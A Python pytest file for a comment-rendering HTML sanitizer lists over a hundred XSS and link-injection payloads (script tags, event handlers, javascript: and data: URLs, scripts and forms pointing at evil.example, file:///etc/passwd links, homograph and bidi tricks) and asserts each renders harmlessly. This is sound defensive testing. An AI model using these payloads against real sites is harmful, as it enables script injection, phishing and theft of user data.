"""Whatever is typed, what is shown is a small set of harmless HTML."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detente.comments.text import OUTPUT_LIMIT, REL, TAGS, ascii_host, first_words, marked, render
from detente.standards import TextRefused, accept

SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0d>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "</p><script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    '```"onmouseover=alert(1)\nx\n```',
    "```<img/onerror=alert(1)>\nx\n```",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>@import 'https://evil.example';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<plaintext><script>alert(1)",
    "<xmp><script>alert(1)</script></xmp>",
    "<listing><img onerror=alert(1) src=x></listing>",
]
ELEMENTS = [
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select onchange=alert(1)><option>x</select>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<div style=position:fixed;inset:0>x</div>",
    "<p onclick=alert(1)>x</p>",
    "<p title=x lang=xx id=main class=button>x</p>",
    "<b onmouseover=alert(1)>x</b>",
    "<template><script>alert(1)</script></template>",
    "<portal src=https://evil.example>",
    "<dialog open>x</dialog>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://evil.example' onclick=alert(1)>x</a>",
    "<a/href=javascript&colon;alert(1)>x</a>",
]
LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](about:blank)",
    "[x](view-source:https://evil.example)",
    "[x](feed:javascript:alert(1))",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](/accounts/logout/)",
    "[x](?next=https://evil.example)",
    "[x](#main)",
    "[x](https:evil.example)",
    "[x](https:///evil.example)",
    "[x](https://)",
    "[x](https://bank.example@evil.example/)",
    "[x](https://bank.example\\@evil.example/)",
    "[x](https://user:pass@evil.example/)",
    "[x](https://[::1]/)",
    "[x](https://localhost/)",
    "[x](https://evil.example:port/)",
    '[x](https://evil.example/"onmouseover="alert(1))',
    '[x](https://evil.example/ "onmouseover=alert(1)")',
    "[x](<https://evil.example/ onmouseover=alert(1)>)",
    "[x](https://evil.example/'onclick='alert(1))",
    "[x](mailto:someone@example.test?body=x)",
    "[x](tel:+4912345)",
    "[x](ftp://evil.example/)",
    "[x](ws://evil.example/)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    '[x][y]\n\n[y]: https://evil.example "t" onclick=alert(1)',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '![x](https://evil.example/x.gif "onload=alert(1)")',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<https://evil.example/"onclick=alert(1)>',
    "<https://evil.example/`onclick=alert(1)>",
    'https://evil.example/"onclick="alert(1)',
    "https://evil.example/<script>alert(1)</script>",
    "https://evil.example/?a=<img src=x onerror=alert(1)>",
    "https://xn--pypal-4ve.com/",
    "https://пример.рф/путь",
    "[**x**](javascript:alert(1))",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[a](javascript:x)[b](https://evil.example)",
    "[x](https://evil.example/\u202egpj.exe)",
]
TRICKS = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&#x202E;txet desrever",
    "&rlm;&lrm;&#8238;x",
    "\u202eevil\u202c",
    "\ufeff<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\<script>alert(1)\\</script>",
    "{{ 7*7 }} {% load static %} ${7*7} <%= 7*7 %>",
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "--><svg/onload=alert(1)>",
    "]]><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<" * 4000,
    ">" * 4900,
    "[" * 4900,
    "![" * 2400,
    "*" * 4900,
    "_" * 4900,
    "`" * 4900,
    "&" * 4999,
    "~~" * 2400,
    "> " * 2400,
    "- " * 2400,
    "[x](" * 1200,
    "<a>" * 1600,
    "https://e.example/" * 270,
    "a@b.example " * 400,
    "1. 2. 3. " * 500,
    "```\n" * 1200,
]
VECTORS = [*SCRIPTS, *ELEMENTS, *LINKS, *TRICKS]
BIDI = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


class Inspector(HTMLParser):
    """Reads HTML as a browser's tokenizer does and complains about everything that is not on the list."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.links: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        values = dict(attrs)
        if tag != "a":
            assert not values, values
            return
        assert set(values) <= {"href", "rel"}, values
        assert values.get("rel") == REL
        if "href" in values:
            host = urlsplit(values["href"] or "").hostname or ""
            assert (values["href"] or "").startswith(("http://", "https://")), values
            assert host.isascii()
            assert "." in host
            assert "@" not in urlsplit(values["href"] or "").netloc
            self.links.append(values["href"] or "")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment came through")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError("a declaration came through")

    def handle_pi(self, data: str) -> None:
        raise AssertionError("a processing instruction came through")


def inspect(html: str) -> Inspector:
    found = Inspector()
    found.feed(html)
    found.close()
    assert not BIDI.search(found.text)
    assert len(html) <= OUTPUT_LIMIT
    return found


def test_there_are_more_than_a_hundred_vectors() -> None:
    assert len(set(VECTORS)) > 100


@pytest.mark.parametrize("vector", VECTORS, ids=range(len(VECTORS)))
def test_attacks_come_out_as_words(vector: str) -> None:
    inspect(render(vector))
    inspect(render(f"Before {vector} after.\n\n> {vector}\n\n- {vector}"[:5000]))


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=400))
def test_any_text_gives_safe_html(text: str) -> None:
    inspect(render(text))


_pieces = st.sampled_from(
    [
        "<",
        ">",
        "[",
        "]",
        "(",
        ")",
        "`",
        "```\n",
        "*",
        "_",
        "~~",
        "\\",
        "&",
        "&#x3c;",
        "\n",
        "\n\n",
        "> ",
        "- ",
        "1. ",
        '"',
        "'",
        "javascript:",
        "https://",
        "//",
        "evil.example",
        "@",
        "x",
        " ",
        "<img ",
        "onerror=",
        "</p>",
        "!",
        ":",
        "data:",
        "\t",
        "#",
        "\u202e",
        "é",
        "xn--",
        "script",
    ]
)


@settings(max_examples=500, deadline=None)
@given(st.lists(_pieces, max_size=60).map("".join))
def test_any_markup_gives_safe_html(text: str) -> None:
    inspect(render(text))


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=300))
def test_what_the_door_lets_in_renders_and_keeps_its_letters(text: str) -> None:
    try:
        clean = accept(text)
    except TextRefused:
        return
    shown = inspect(render(clean)).text
    letters = [sign for sign in clean if sign.isalpha() and sign.isascii()]
    assert [sign for sign in letters if sign in shown] == letters


@given(st.text(max_size=80), st.lists(st.tuples(st.integers(-5, 90), st.integers(-5, 90)), max_size=6))
def test_evidence_is_marked_without_losing_or_adding_a_letter(
    text: str, spans: list[tuple[int, int]]
) -> None:
    html = str(marked(text, spans))
    bare = html.replace('<mark class="evidence">', "").replace("</mark>", "")
    from html import escape

    assert bare == escape(text)
    assert html.count("<mark") == html.count("</mark>")


def test_the_words_of_a_mark_are_those_of_the_span() -> None:
    text = 'say "<b>" & go'
    assert str(marked(text, [(4, 9)])) == 'say <mark class="evidence">&quot;&lt;b&gt;&quot;</mark> &amp; go'
    assert str(marked("abcdef", [(1, 3), (2, 4), (9, 12)])) == 'a<mark class="evidence">bcd</mark>ef'


def test_a_look_alike_host_is_shown_as_it_is() -> None:
    for typed in ("https://xn--pypal-4ve.com/", "https://p\u0430ypal.com/"):
        found = inspect(render(typed))
        assert found.links == ["https://xn--pypal-4ve.com/"]
        assert "xn--pypal-4ve.com" in found.text
        assert "\u0430" not in found.text


def test_a_link_with_other_words_names_its_host() -> None:
    found = inspect(render("Read [the report of the bank](https://evil.example/login)."))
    assert found.text == "Read the report of the bank (evil.example)."


@pytest.mark.parametrize(
    "typed", [link for link in LINKS if "javascript" in link.lower() and "evil" not in link]
)
def test_no_scripts_in_links(typed: str) -> None:
    assert inspect(render(typed)).links == []


def test_what_people_use_works() -> None:
    html = render(
        "Hello *you*, **look**:\nsecond line\n\n> quoted\n\n- one\n- two\n\n`code` ~~gone~~ https://example.test/a?b=c&d=e"
    )
    for part in (
        "<em>you</em>",
        "<strong>look</strong>",
        "<br>",
        "<blockquote>",
        "<li>one</li>",
        "<code>code</code>",
        "<s>gone</s>",
    ):
        assert part in html
    assert f'<a href="https://example.test/a?b=c&amp;d=e" rel="{REL}">' in html


@pytest.mark.parametrize(
    "typed", ["# no heading", "1 < 2 & 3 > 2", "tomorrow.So it goes", "    indented words", "&copy; &amp;"]
)
def test_what_looks_like_markup_stays_as_typed(typed: str) -> None:
    found = inspect(render(typed))
    assert found.text.strip() == typed.strip()
    assert not found.links


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://Example.TEST:8443/x", "example.test"),
        ("http://a.b", "a.b"),
        ("//a.b", None),
        ("https://a", None),
        ("https://a.b@c.d/", None),
        ("https://a.b:x/", None),
        ("ftp://a.b", None),
        ("https://\u0430.b/", None),
    ],
)
def test_hosts(url: str, host: str | None) -> None:
    assert ascii_host(url) == host


def test_first_words_are_cut_at_a_blank() -> None:
    assert first_words("one two\nthree", 9) == "one two…"
    assert first_words("short") == "short"
